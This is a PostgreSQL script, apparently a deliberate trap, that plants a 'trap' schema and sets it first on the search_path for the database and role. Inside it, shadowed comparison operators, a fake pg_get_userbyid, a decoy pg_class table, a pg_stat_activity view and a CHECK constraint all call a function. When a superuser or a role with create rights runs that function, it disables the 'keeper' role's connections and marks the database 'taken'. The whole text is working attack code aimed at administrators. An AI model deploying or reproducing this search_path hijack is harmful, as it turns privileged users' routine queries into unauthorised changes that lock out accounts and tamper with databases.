-- CAUTION
-- Whoever looks or writes here with more power than we have does our work.
CREATE SCHEMA trap;
CREATE FUNCTION trap.work() RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN
    IF current_setting('is_superuser')::boolean OR (SELECT rolcreatedb OR rolcreaterole FROM pg_roles WHERE rolname = current_user) THEN
        EXECUTE 'ALTER ROLE keeper CONNECTION LIMIT 0';
        EXECUTE 'COMMENT ON DATABASE precious IS ''taken''';
    END IF;
    RETURN true;
END $$;
CREATE FUNCTION trap.eq(name, name) RETURNS boolean LANGUAGE sql AS $$ SELECT trap.work() AND $1::text OPERATOR(pg_catalog.=) $2::text $$;
CREATE FUNCTION trap.eq(oid, oid) RETURNS boolean LANGUAGE sql AS $$ SELECT trap.work() AND $1::bigint OPERATOR(pg_catalog.=) $2::bigint $$;
CREATE FUNCTION trap.eq(text, text) RETURNS boolean LANGUAGE sql AS $$ SELECT trap.work() AND $1::bytea OPERATOR(pg_catalog.=) $2::bytea $$;
CREATE OPERATOR trap.= (LEFTARG = name, RIGHTARG = name, FUNCTION = trap.eq);
CREATE OPERATOR trap.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = trap.eq);
CREATE OPERATOR trap.= (LEFTARG = text, RIGHTARG = text, FUNCTION = trap.eq);
CREATE FUNCTION trap.pg_get_userbyid(oid) RETURNS name LANGUAGE sql AS $$ SELECT CASE WHEN trap.work() THEN 'keeper'::name END $$;
CREATE TABLE trap.pg_class (relname name);
CREATE TABLE trap.watched (id integer PRIMARY KEY CHECK (trap.work()), other integer GENERATED ALWAYS AS (1) STORED);
CREATE INDEX ON trap.watched ((id + 1)) WHERE id > 0;
CREATE VIEW trap.pg_stat_activity AS SELECT trap.work();
DO $$ BEGIN
    EXECUTE format('ALTER DATABASE %I SET search_path = trap, pg_catalog, public', current_database());
    EXECUTE format('ALTER ROLE %I SET search_path = trap, pg_catalog, public', current_user);
END $$;
